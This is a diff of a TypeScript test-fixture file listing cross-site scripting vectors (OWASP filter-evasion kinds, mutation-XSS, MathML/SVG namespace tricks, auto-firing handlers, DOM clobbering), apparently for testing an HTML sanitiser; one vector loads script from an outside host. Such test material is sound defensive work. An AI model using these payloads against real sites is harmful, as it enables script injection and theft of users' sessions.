@@ -1,6 +1,6 @@
 /**
- * Markup that tries to run: the kinds of the OWASP Filter Evasion Cheat Sheet, and of mutations by which two parsers were made
- * to disagree. Each calls `alert(1)`; where it needs a picture that fails, that is `x`.
+ * Markup that runs a script: the kinds of the OWASP Filter Evasion Cheat Sheet, and mutations that two parsers interpret
+ * differently. Each vector calls `alert(1)`. Vectors with a failing picture use `x` as its address.
  */
 export const xssVectors: Record<string, string> = {
   script: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
@@ -97,7 +97,7 @@ export const xssVectors: Record<string, string> = {
   'a tag without an end': '<p',
   'quotes that do not match': `<a href='https://club.example"onclick=alert(1)//'>x</a>`,
   'names that objects have': '<__proto__ constructor=x><p __proto__=x constructor=y>z</p>',
-  // Namespaces: what is text in one of them is an element in another.
+  // Namespaces: text in one namespace is an element in another.
   'MathML whose text may hold HTML':
     '<math><mi><svg><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></svg></mi></math>',
   'MathML annotation that is HTML':
@@ -120,7 +120,7 @@ export const xssVectors: Record<string, string> = {
   'a glyph in a table in MathML':
     '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
   'a font that breaks out': '<svg><font color=x><img src=x onerror=alert(1)></font></svg>',
-  // What a second parse makes of the first one's serialisation.
+  // A second parser reads the serialisation of the first differently.
   'a table that throws things out': '<table><a href="<img src=x onerror=alert(1)>"><tr><td><p></table>',
   'a select that swallows': '<select><style></select><img src=x onerror=alert(1)></style>',
   'an option that swallows': '<select><option><textarea></option></select><img src=x onerror=alert(1)>',
@@ -152,7 +152,7 @@ export const xssVectors: Record<string, string> = {
   'a comment of dashes': '<!--><!---><img src=x onerror=alert(1)>-->',
   'a bogus comment': '<?><img src=x onerror=alert(1)>?><//><img src=x onerror=alert(1)>',
   'CDATA in SVG': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
-  // Handlers that need nobody.
+  // Event handlers that run without a user.
   'a details that opens': '<details open ontoggle=alert(1)>x</details>',
   'a marquee that starts': '<marquee onstart=alert(1)>x</marquee>',
   'a field that takes the focus': '<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>',
@@ -177,7 +177,7 @@ export const xssVectors: Record<string, string> = {
     '<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=/media/a-640.webp>',
   'an output of a form':
     '<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>',
-  // Names of the page's own, taken over.
+  // Overwrite names of the page's own script.
   'clobbered names':
     '<form id=document name=location><input name=cookie><img name=currentScript id=ran></form><a id=window name=ran href=x>x</a>',
   // Encodings.
